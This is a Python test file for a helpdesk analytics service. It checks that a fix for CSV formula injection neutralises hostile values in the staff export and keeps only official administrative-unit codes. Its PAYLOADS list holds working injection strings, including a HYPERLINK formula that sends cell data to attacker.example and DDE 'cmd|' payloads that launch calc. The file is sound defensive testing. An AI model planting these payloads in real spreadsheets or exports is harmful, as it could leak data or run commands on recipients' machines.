"""Finding 5: the citizen-supplied ``unit`` reached /staff/api/analytics.csv unescaped
(``=HYPERLINK(…)``, ``@SUM(…)``, ``-2+3+cmd|…``), and anyone could invent units in the analytics.

Now every CSV cell a spreadsheet would compute is neutralised (OWASP: a leading apostrophe), and a
conversation keeps only the official code of a unit its widget names without doubt.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import io
import time
import uuid
from pathlib import Path
from typing import Any

from sqlalchemy import text
from sqlalchemy.orm import Session

from servicedesk.analytics import export
from servicedesk.analytics.service import Filters, GroupStats, Ranked, report
from tests.staff.conftest import login

PAYLOADS = (
    '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+1",
    "   =1+1",  # spaces first: spreadsheets still compute it
    "\t=1+1",
    "\r=1+1",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
RANGE = Filters(dt.date(2026, 11, 1), dt.date(2026, 11, 3))


def _cells(csv_text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(csv_text.removeprefix("\ufeff"))) for cell in row]


def _computed(cell: str) -> bool:
    return cell.lstrip(" ").startswith(FORMULA_START)


def test_finding_5_every_cell_a_spreadsheet_would_compute_is_neutralised(session: Session) -> None:
    hostile = dataclasses.replace(
        report(session, RANGE),
        units=[GroupStats(key=payload, label=payload, messages=1) for payload in PAYLOADS],
        top_procedures=[Ranked(key=payload, label=payload, messages=1, conversations=1) for payload in PAYLOADS],
    )
    cells = _cells(export.to_csv(hostile))
    assert [cell for cell in cells if _computed(cell)] == []
    for payload in PAYLOADS:
        assert "'" + payload in cells  # kept, readable, as text
    # Ordinary values are left alone (numbers stay numbers).
    assert "Tổng quan" in cells and "0" in cells and "2026-11-01" in cells


def _wait_for_turns(client: Any, expected: int, timeout: float = 20.0) -> dict[str, Any]:
    """The analytics once the recorder (a background task after each reply) has written them all."""
    deadline = time.monotonic() + timeout
    while True:
        body = client.get("/staff/api/analytics").json()
        if body["totals"]["messages"] >= expected or time.monotonic() > deadline:
            return body
        time.sleep(0.2)


def test_finding_5_the_widget_unit_cannot_invent_units_or_carry_formulas(staff_client: Any) -> None:
    units = {
        "Phường Bến Thành": "26743",  # exact official name of a current unit
        "phường  bến thành": "26743",  # case and spacing aside
        "Xã Tân Phú, Tỉnh Đồng Nai": "26116",  # a repeated name, told apart by its province
        "Phường Bến Nghé": "26740",  # a former ward that went whole into Phường Sài Gòn
        "Xã Tân Phú": None,  # five current communes have this name: not confident
        "Phường Không Có Thật": None,  # invented
        PAYLOADS[0]: None,
        PAYLOADS[1]: None,
        PAYLOADS[2]: None,
    }
    for n, unit in enumerate(units):
        sender = f"web-{uuid.UUID(int=n + 1)}"
        response = staff_client.post("/api/chat", json={"sender": sender, "message": "xin chào", "unit": unit})
        assert response.status_code == 200, response.text

    login(staff_client, "analyst")
    body = _wait_for_turns(staff_client, len(units))
    assert body["totals"]["messages"] == len(units)
    by_unit = {group["key"]: group for group in body["units"]}
    assert set(body["available_units"]) == set(by_unit) == {"26743", "26116", "26740", "Chưa rõ đơn vị"}
    assert {key: by_unit[key]["label"] for key in ("26743", "26116", "26740")} == {
        "26743": "Phường Bến Thành",
        "26116": "Xã Tân Phú",
        "26740": "Phường Sài Gòn",
    }
    assert (by_unit["26743"]["messages"], by_unit["Chưa rõ đơn vị"]["messages"]) == (2, 5)

    # The filter takes a code and the export names the unit officially, with nothing to compute.
    exported = staff_client.get("/staff/api/analytics.csv", params={"unit": "26743"})
    assert exported.status_code == 200
    cells = _cells(exported.content.decode("utf-8"))
    assert [cell for cell in cells if _computed(cell)] == []
    assert "Phường Bến Thành" in cells and not any("HYPERLINK" in cell or "cmd|" in cell for cell in cells)
    assert staff_client.get("/staff/api/analytics", params={"unit": "=1+1"}).status_code == 422


def test_finding_5_stored_unit_texts_become_codes_when_migrating(tmp_path: Path) -> None:
    from alembic import command

    from core.db import make_engine
    from database.migrate import alembic_config

    url = f"sqlite:///{tmp_path / 'old.sqlite3'}"
    config = alembic_config(url)
    command.upgrade(config, "0007")
    engine = make_engine(url)
    with engine.begin() as connection:
        for code, name in (("26743", "Phường Bến Thành"), ("26116", "Xã Tân Phú"), ("17272", "Xã Tân Phú")):
            connection.execute(
                text(
                    "INSERT INTO administrative_unit (code, name, type, level, status, name_folded) "
                    "VALUES (:code, :name, 'xa', 'commune', 'current', :name)"
                ),
                {"code": code, "name": name},
            )
        for unit in ("Phường Bến Thành", "Xã Tân Phú", PAYLOADS[0], None):
            connection.execute(
                text(
                    "INSERT INTO conversation_turn (at, sender_hash, channel, unit, fallback, needs_review, handled_by)"
                    " VALUES ('2026-11-01 00:00:00', 'h', 'web', :unit, 0, 0, 'bot')"
                ),
                {"unit": unit},
            )
    command.upgrade(config, "head")
    with engine.connect() as connection:
        codes = [row[0] for row in connection.execute(text("SELECT unit_code FROM conversation_turn ORDER BY id"))]
    engine.dispose()
    assert codes == ["26743", None, None, None]
